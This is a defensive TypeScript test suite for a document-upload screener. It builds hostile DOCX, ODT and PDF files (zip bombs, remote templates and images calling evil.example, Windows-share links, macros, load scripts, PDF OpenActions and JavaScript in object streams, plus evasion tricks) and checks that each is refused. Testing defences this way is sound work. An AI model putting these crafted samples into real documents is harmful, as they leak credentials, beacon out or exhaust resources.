import { deflateSync } from 'node:zlib';
import type { KnowledgeFormat } from '@duidingspool/shared';
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../errors.ts';
import { MAX_ODF_XML_BYTES, MAX_RELS_BYTES, screenKnowledgeFile } from './file-screening.ts';
import { MAX_ZIP_ENTRIES, MAX_ZIP_RATIO } from './zip-reader.ts';

// Hostile files built here, byte by byte, for each kind of attack decision 097 refuses; each
// expectation is the rule's (415 for active content and bombs, accepted for what the rule allows).

const enc = (text: string) => new TextEncoder().encode(text);
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A Word document (DOCX) with `extra` entries, packed at `level` (0: stored). */
const docx = (extra: Record<string, string | Uint8Array> = {}, level: 0 | 6 = 6) =>
  Buffer.from(
    zipSync(
      {
        '[Content_Types].xml': enc(
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
        '_rels/.rels': enc(
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
        ),
        'word/document.xml': enc('<w:document/>'),
        ...Object.fromEntries(Object.entries(extra).map(([name, content]) => [name, typeof content === 'string' ? enc(content) : content])),
      },
      { level },
    ),
  );

/** A relationship part holding `relationships` (each the attributes of one `<Relationship>`). */
const rels = (...relationships: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:a="urn:x">${relationships
    .map((r, i) => `<Relationship Id="rId${i + 1}" ${r}/>`)
    .join('')}</Relationships>`;

/** An OpenDocument text whose `content.xml` body is `body`, with `extra` entries. */
const odt = (body: string, extra: Record<string, string> = {}) =>
  Buffer.from(
    zipSync({
      mimetype: [enc('application/vnd.oasis.opendocument.text'), { level: 0 }],
      'content.xml': enc(
        `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">${body}</office:document-content>`,
      ),
      ...Object.fromEntries(Object.entries(extra).map(([name, text]) => [name, enc(text)])),
    }),
  );

/** A PDF with `body` between its header and its end marker. */
const pdf = (...body: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...body.map((b) => (typeof b === 'string' ? Buffer.from(b, 'latin1') : b)),
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);

/** An object stream (`/Type /ObjStm`) holding `objects` (number → body), Flate-compressed. */
function objectStream(num: number, objects: Record<number, string>, filter = '/FlateDecode'): Buffer {
  let header = '';
  let bodies = '';
  for (const [n, body] of Object.entries(objects)) {
    header += `${n} ${bodies.length} `;
    bodies += `${body}\n`;
  }
  const data = deflateSync(Buffer.from(header + bodies, 'latin1'));
  return Buffer.concat([
    Buffer.from(`${num} 0 obj<</Type/ObjStm/N ${Object.keys(objects).length}/First ${header.length}/Filter${filter}/Length ${data.length}>>stream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream endobj\n', 'latin1'),
  ]);
}

/** Offsets of each central-directory record of `zip`, and of its end record. */
function centralDirectory(zip: Buffer): { eocd: number; records: number[] } {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const records: number[] = [];
  let at = zip.readUInt32LE(eocd + 16);
  for (let i = 0; i < zip.readUInt16LE(eocd + 10); i++) {
    records.push(at);
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return { eocd, records };
}

/** `zip` with the central directory's unpacked size of `name` set to `size` (a lie). */
function declareSize(zip: Buffer, name: string, size: number): Buffer {
  const out = Buffer.from(zip);
  for (const at of centralDirectory(out).records) {
    if (out.toString('latin1', at + 46, at + 46 + out.readUInt16LE(at + 28)) === name) out.writeUInt32LE(size, at + 24);
  }
  return out;
}

/** `zip` with the central-directory record of its last entry repeated `copies` times. */
function repeatLastEntry(zip: Buffer, copies: number): Buffer {
  const { eocd, records } = centralDirectory(zip);
  const start = records[0] as number;
  const last = records[records.length - 1] as number;
  const repeated = Buffer.concat(Array.from({ length: copies }, () => zip.subarray(last, eocd)));
  const directory = Buffer.concat([zip.subarray(start, eocd), repeated]);
  const end = Buffer.from(zip.subarray(eocd, eocd + 22));
  end.writeUInt16LE(records.length + copies, 8);
  end.writeUInt16LE(records.length + copies, 10);
  end.writeUInt32LE(directory.length, 12);
  return Buffer.concat([zip.subarray(0, start), directory, end]);
}

/** The status `screenKnowledgeFile` answers for `bytes`: 200 when it passes, else the AppError's. */
function status(format: KnowledgeFormat, bytes: Buffer): number {
  try {
    screenKnowledgeFile(format, bytes);
    return 200;
  } catch (error) {
    if (error instanceof AppError) return error.status;
    throw error;
  }
}

describe('zip bombs and lying zips are refused (415) without unpacking them', () => {
  // 8 MB of spaces packs to some kB: a ratio far above the cap, like the 1 GB bomb it stands for.
  const spaces = enc(' '.repeat(8 * 1024 * 1024));

  it('a part that declares 100 bytes and unpacks to megabytes', () => {
    const zip = declareSize(docx({ 'word/_rels/document.xml.rels': spaces }), 'word/_rels/document.xml.rels', 100);
    expect(status('docx', zip)).toBe(415);
  }, 60_000);

  it('a part in a file the screening does not read (the document itself) that lies about its size', () => {
    const zip = declareSize(docx({ 'word/media/image1.png': spaces }), 'word/media/image1.png', 100);
    expect(status('docx', zip)).toBe(415);
  }, 60_000);

  it(`a part that declares its size honestly but is packed more than ${MAX_ZIP_RATIO}×`, () => {
    expect(status('docx', docx({ 'word/media/image1.png': spaces }))).toBe(415);
  }, 60_000);

  it('the same entry listed twice in the central directory', () => {
    expect(status('docx', repeatLastEntry(docx({ 'word/media/image1.png': 'x' }), 1))).toBe(415);
  });

  it('two entries whose names differ only in case (Office part names ignore case)', () => {
    expect(status('docx', docx({ 'word/media/a.png': 'x', 'word/media/A.png': 'y' }))).toBe(415);
  });

  it(`more than ${MAX_ZIP_ENTRIES} entries`, () => {
    const many = Object.fromEntries(Array.from({ length: MAX_ZIP_ENTRIES }, (_, i) => [`word/media/${i}.png`, 'x']));
    expect(status('docx', docx(many, 0))).toBe(415);
  }, 60_000);
});

describe('Word documents that reach out or carry code are refused (415)', () => {
  const part = 'word/_rels/settings.xml.rels';
  it.each([
    ['a remote template', rels(`Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"`)],
    ['a remote template, External written as a character reference', rels(`Type="${REL}/image" Target="http://evil.example/t.png" TargetMode="&#69;xternal"`)],
    [
      'a remote image passed off as a hyperlink by a prefixed attribute',
      rels(`Type="${REL}/image" Target="http://evil.example/p.png" TargetMode="External" a:Type="x/hyperlink"`),
    ],
    ['a remote target without TargetMode', rels(`Type="${REL}/image" Target="http://evil.example/p.png"`)],
    ['a hyperlink to a Windows share (leaks the user’s credentials)', rels(`Type="${REL}/hyperlink" Target="\\\\evil.example\\share" TargetMode="External"`)],
    ['a hyperlink to a local file', rels(`Type="${REL}/hyperlink" Target="file:///C:/Windows/calc.exe" TargetMode="External"`)],
  ])('%s', (_, xml) => {
    expect(status('docx', docx({ [part]: xml }))).toBe(415);
  });

  it('a macro project under another name, tied in by its relationship', () => {
    const zip = docx({
      'word/_rels/document.xml.rels': rels('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="macros.bin"'),
      'word/macros.bin': 'VBA',
    });
    expect(status('docx', zip)).toBe(415);
  });

  it('an embedded object relationship in a part other than the document', () => {
    expect(status('docx', docx({ 'word/_rels/header1.xml.rels': rels(`Type="${REL}/oleObject" Target="x.bin"`) }))).toBe(415);
  });

  it('a macro-enabled content type', () => {
    const types =
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
    const zip = Buffer.from(zipSync({ '[Content_Types].xml': enc(types), 'word/document.xml': enc('<w:document/>') }));
    expect(status('docx', zip)).toBe(415);
  });

  it('a relationship part too large to read (padded past the cap) is refused, not skipped', () => {
    // Stored, not packed: the part is within every zip cap, only too large to read.
    const padding = `<!--${' '.repeat(MAX_RELS_BYTES)}-->`;
    const xml = rels(`Type="${REL}/hyperlink" Target="https://www.nctv.nl" TargetMode="External"`).replace('?>', `?>${padding}`);
    expect(status('docx', docx({ [part]: xml }, 0))).toBe(415);
  }, 60_000);

  it('a DTD (entity expansion)', () => {
    expect(status('docx', docx({ [part]: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>${rels()}` }))).toBe(415);
  });

  it('ordinary hyperlinks (http, https, mailto) and internal parts are accepted', () => {
    const xml = rels(
      `Type="${REL}/hyperlink" Target="https://www.nctv.nl" TargetMode="External"`,
      `Type="${REL}/hyperlink" Target="mailto:info@example.nl" TargetMode="External"`,
      `Type="${REL}/styles" Target="styles.xml"`,
      `Type="${REL}/image" Target="media/image1.png"`,
    );
    expect(status('docx', docx({ 'word/_rels/document.xml.rels': xml, 'word/media/image1.png': 'png' }))).toBe(200);
  });
});

describe('OpenDocument texts that run scripts, embed objects or load remote content are refused (415)', () => {
  it.each([
    [
      'a script run on load',
      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>',
    ],
    ['an embedded object', '<office:body><office:text><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></office:text></office:body>'],
    [
      'an image loaded from the internet',
      '<office:body><office:text><draw:frame><draw:image xlink:href="http://evil.example/pixel.png"/></draw:frame></office:text></office:body>',
    ],
    ['an image from a Windows share', '<office:body><office:text><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></office:text></office:body>'],
    [
      'a hyperlink that runs a macro',
      '<office:body><office:text><text:p><text:a xlink:href="vnd.sun.star.script:evil">x</text:a></text:p></office:text></office:body>',
    ],
  ])('%s', (_, body) => {
    expect(status('odt', odt(body))).toBe(415);
  });

  it('an embedded object stored as Object 1/, even when nothing points at it', () => {
    expect(status('odt', odt('<office:body/>', { 'Object 1/content.xml': '<x/>' }))).toBe(415);
  });

  it('XML parts too large to read are refused, not skipped', () => {
    const padding = `<!--${' '.repeat(MAX_ODF_XML_BYTES)}-->`;
    const zip = Buffer.from(
      zipSync(
        { mimetype: [enc('application/vnd.oasis.opendocument.text'), { level: 0 }], 'content.xml': enc(`<?xml version="1.0"?>${padding}<x/>`) },
        { level: 0 },
      ),
    );
    expect(status('odt', zip)).toBe(415);
  }, 60_000);

  it('text hyperlinks to web pages and pictures inside the file are accepted', () => {
    const body =
      '<office:body><office:text><text:p><text:a xlink:href="https://www.nctv.nl" xlink:type="simple">NCTV</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></office:text></office:body>';
    expect(status('odt', odt(body, { 'Pictures/a.png': 'png' }))).toBe(200);
  });
});

describe('PDFs that act on their own, reach out or run code are refused (415)', () => {
  it.each([
    ['a web address opened on open', '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://evil.example/b)>>>>endobj'],
    ['a page action (/AA) that opens a web address', '5 0 obj<</Type/Page/AA<</O<</S/URI/URI(http://evil.example/o)>>>>>>endobj'],
    ['/AA written with a name escape', '5 0 obj<</Type/Page/#41A<</O<</S/URI/URI(http://evil.example/o)>>>>>>endobj'],
    ['a link to a file on a Windows share (/GoToR)', '1 0 obj<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>>>endobj'],
    [
      'an OpenAction pointing at a web-address action elsewhere',
      '1 0 obj<</Type/Catalog/OpenAction 3 0 R>>endobj\n3 0 obj<</S/URI/URI(http://evil.example/b)>>endobj',
    ],
    ['an OpenAction to an object that is not there', '1 0 obj<</Type/Catalog/OpenAction 9 0 R>>endobj'],
  ])('%s', (_, body) => {
    expect(status('pdf', pdf(body))).toBe(415);
  });

  it('JavaScript inside a compressed object stream', () => {
    const bytes = pdf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n', objectStream(4, { 3: '<</S/JavaScript/JS(app.alert(1))>>' }));
    expect(status('pdf', bytes)).toBe(415);
  });

  it('an OpenAction to a web address inside a compressed object stream', () => {
    const bytes = pdf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n', objectStream(4, { 3: '<</S/URI/URI(http://evil.example/b)>>' }));
    expect(status('pdf', bytes)).toBe(415);
  });

  it('an object stream that cannot be inspected (another filter)', () => {
    expect(status('pdf', pdf(objectStream(4, { 3: '<<>>' }, '/LZWDecode')))).toBe(415);
  });

  it('plain hyperlinks, a destination on open and a go-to in an object stream are accepted', () => {
    const bytes = pdf(
      '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[5 0 R/Fit]/Outlines 6 0 R>>endobj\n',
      '5 0 obj<</Type/Page/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.nctv.nl)>>>>]>>endobj\n',
      '6 0 obj<</A 7 0 R>>endobj\n',
      objectStream(8, { 7: '<</S/GoTo/D[5 0 R/Fit]>>' }),
    );
    expect(status('pdf', bytes)).toBe(200);
  });

  it('an OpenAction that is a go-to action, direct or in an object stream, is accepted', () => {
    expect(status('pdf', pdf('1 0 obj<</Type/Catalog/OpenAction<</S/GoTo/D[5 0 R/Fit]>>>>endobj'))).toBe(200);
    expect(status('pdf', pdf('1 0 obj<</Type/Catalog/OpenAction 7 0 R>>endobj\n', objectStream(8, { 7: '<</S/GoTo/D[5 0 R/Fit]>>' })))).toBe(200);
  });
});
